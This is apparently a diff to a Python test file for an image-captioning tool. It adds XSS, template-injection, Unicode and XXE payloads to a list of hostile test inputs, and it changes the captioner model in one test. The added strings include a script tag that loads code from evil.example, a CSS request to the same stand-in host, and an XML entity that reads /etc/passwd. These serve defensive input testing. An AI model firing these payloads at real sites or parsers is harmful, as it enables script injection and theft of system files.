@@ -47,6 +47,16 @@ HOSTILE = [
     "a\nb\tc\x00\x1b[31m",
     "\u202eevil\u2066",
     "--><svg/onload=alert(1)>",
+    "</title></style><script src=//evil.example/x.js></script>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "{{7*7}} ${7*7} <%= 7 %>",
+    "\\u003cscript\\u003e",
+    "<a href=data:text/html,x>y</a>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "\ufeff\ufffe\ud800",
+    "\u2028<b>\u2029",
+    "<style>*{background:url(//evil.example)}</style>",
+    "`${alert(1)}`",
 ]
 
 
@@ -87,7 +97,7 @@ def test_pictures_are_found_in_files_folders_and_zips(photos, tmp_path):
         *(f"{tmp_path}/all.zip/{name}" for name in names),
         f"{photos}/notes.txt",
     ]
-    made = captioner("transformer")
+    made = captioner("rnn")
     folder, packed = (
         [each.outputs[0].text for each in caption(made, [path])] for path in (photos, tmp_path / "all.zip")
     )
